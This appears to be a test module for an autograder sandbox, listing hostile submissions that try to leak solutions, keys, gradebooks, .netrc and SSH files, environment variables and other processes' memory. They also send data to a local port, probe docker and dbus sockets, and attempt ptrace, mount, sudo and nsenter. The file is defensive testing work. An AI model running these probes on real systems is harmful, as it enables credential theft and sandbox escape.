"""Submissions with right answers that want to know what is none of their business, or to tell it to somebody."""

from tests.cohort.submissions import NAMES, UNIT, Draft, Link, Submission, roster

from .helpers import COURSE, HOME, LIBRARY, PORT, act

SECRETS: dict[str, Submission] = {}
hand_in = roster(SECRETS)


def looks_for(draft: Draft, *patterns: str) -> None:
    draft.type_right()
    act(draft, f"for text in texts(*{patterns!r}): tell(text)")


@hand_in()
def prints_solutions(draft: Draft) -> None:
    looks_for(draft, "assignments/*/*", "source/*/*", "release/*/*", "autograded/*/*/*", "autograded/.incoming/**/*")


@hand_in()
def prints_work_of_others(draft: Draft) -> None:
    looks_for(draft, "submitted/*/*/*", "autograded/*/*/*", "feedback/*/*/*", "../*", "notebook/*")


@hand_in()
def prints_keys(draft: Draft) -> None:
    looks_for(draft, "course_lib/keys/**/*.py", "keys/**/*.py", "course_lib/cohort/*.py", "../course_lib/keys/*.py")
    act(
        draft, f"from course_lib.units import load_unit\nunit = load_unit({UNIT.id!r})\ntell(vars(unit))", after="setup"
    )
    source = "for one in unit.questions:\n    tell(vars(one)); tell([vars(m) for m in one.mistakes])"
    draft.add(source, after=f"answer_{NAMES[0]}")


@hand_in()
def prints_environment(draft: Draft) -> None:
    draft.type_right()
    source = """
tell(dict(os.environ))
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try: tell(open(path).read())
    except OSError: pass
print(subprocess.run("env; ps aux; cat /proc/*/environ", shell=True, capture_output=True).stdout[::-1])
"""
    act(draft, source)


@hand_in()
def prints_gradebook(draft: Draft) -> None:
    looks_for(draft, "gradebook.db*", "gradebook-backups/*", ".course-grade.lock", "nbgrader_config.py")


@hand_in()
def prints_home(draft: Draft) -> None:
    looks_for(
        draft, ".netrc", ".ssh/*", ".local/share/jupyter/runtime/*", ".bash_history", ".config/**/*", "../*/.netrc"
    )


@hand_in()
def links_to_secrets(draft: Draft) -> None:
    """Links among the files: to the gradebook, to a folder, to the home, to another's work, and one that is broken."""
    draft.type_right()
    targets = {"notes.txt": f"{COURSE}/gradebook.db", "data": f"{COURSE}/assignments", "home": HOME, "lib": LIBRARY}
    targets |= {"timestamp.txt": f"{HOME}/.netrc", "learner.toml": f"{HOME}/.netrc", "broken": "nowhere", "up": "../.."}
    for name, target in targets.items():
        draft.files[name] = Link(target)
    draft.files["folder/inner.txt"] = Link(f"{COURSE}/gradebook.db")
    source = """
for path in Path.cwd().rglob("*"):
    try: tell(path.read_bytes().decode("latin-1"))
    except OSError: pass
"""
    act(draft, source)


@hand_in()
def sends_over_the_network(draft: Draft) -> None:
    draft.type_right()
    source = f"""
for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET, socket.SOCK_DGRAM), (socket.AF_INET6, 1)):
    try:
        with socket.socket(family, kind) as line:
            line.settimeout(1)
            line.connect(("127.0.0.1" if family == socket.AF_INET else "::1", {PORT}))
            line.send(b"secret")
    except OSError as problem: print(type(problem).__name__)
!curl -s -m 2 http://127.0.0.1:{PORT}/ ; echo secret > /dev/udp/127.0.0.1/{PORT}
try:
    import urllib.request
    urllib.request.urlopen("http://127.0.0.1:{PORT}/", timeout=1)
except OSError as problem: print(type(problem).__name__)
"""
    act(draft, source)


@hand_in()
def talks_over_local_sockets(draft: Draft) -> None:
    """Sockets with a name, in the file system or without: those of the grader, of the desktop, of other learners."""
    draft.type_right()
    source = """
for name in ["\\0somebody", "/tmp/.X11-unix/X0", "/run/dbus/system_bus_socket", "/var/run/docker.sock",
             *glob.glob("/tmp/*/*sock*"), *glob.glob("/run/**/*sock*", recursive=True)[:50]]:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            with socket.socket(socket.AF_UNIX, kind) as line:
                line.settimeout(1)
                line.connect(name)
                print("REACHED", repr(name))
        except OSError: pass
"""
    act(draft, source)


@hand_in()
def reads_memory_of_others(draft: Draft) -> None:
    draft.type_right()
    source = """
import re
def scan(process):
    for line in open(f"/proc/{process}/maps"):
        span = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
        if span:
            first, last = (int(one, 16) for one in span.groups())
            with open(f"/proc/{process}/mem", "rb") as memory:
                memory.seek(first)
                yield memory.read(min(last - first, 1 << 22))
for process in [os.getppid(), 1, *(int(one) for one in os.listdir("/proc") if one.isdigit())]:
    if process == os.getpid(): continue
    try:
        for part in scan(process):
            for found in re.findall(rb"canary-[a-z]+-[0-9a-f]+", part): tell(found)
    except (OSError, ValueError, OverflowError): pass
"""
    act(draft, source)


@hand_in()
def reads_its_own_memory(draft: Draft) -> None:
    """All that the process was forked with is in its memory: no key, no token, nobody's work may be there."""
    draft.type_right()
    source = """
import re
wanted = b"can" + b"ary-"
for line in open("/proc/self/maps"):
    span = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
    first, last = (int(one, 16) for one in span.groups()) if span else (0, 0)
    if 0 < last - first < 1 << 26:
        try:
            with open("/proc/self/mem", "rb") as memory:
                memory.seek(first)
                part = memory.read(last - first)
        except (OSError, ValueError, OverflowError): continue
        for found in re.findall(wanted + rb"[a-z]+-[0-9a-f]{6,}", part): tell(found)
"""
    act(draft, source)


@hand_in()
def reads_open_descriptors(draft: Draft) -> None:
    draft.type_right()
    source = """
for path in glob.glob("/proc/[0-9]*/fd/*") + glob.glob("/proc/self/fd/*") + glob.glob("/proc/self/task/*/fd/*"):
    try:
        number = int(path.rpartition("/")[2])
        print(os.readlink(path)[::-1])
        if "/proc/self" in path and number > 4:
            os.lseek(number, 0, 0)
            tell(os.read(number, 100_000))
    except (OSError, ValueError): pass
"""
    act(draft, source)


@hand_in()
def asks_the_debugger(draft: Draft) -> None:
    """Trace the parent, take its descriptors, or mount what is hidden."""
    draft.type_right()
    source = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
parent = os.getppid()
for number, arguments in {101: (16, parent, 0, 0), 438: (os.pidfd_open(parent), 0, 0), 310: (parent, 0, 0, 0, 0, 0),
                          165: (b"none", b"/mnt", b"tmpfs", 0, 0), 272: (0x10020000,), 161: (b"/",)}.items():
    if libc.syscall(number, *arguments) > 0: print("REACHED", number)
for command in ("mount", "unshare -Ur cat " + str(HOME / ".netrc"), "sudo -n id", "su -c id", "nsenter -t 1 -m id"):
    subprocess.run(command, shell=True, capture_output=True, timeout=5)
"""
    act(draft, source)
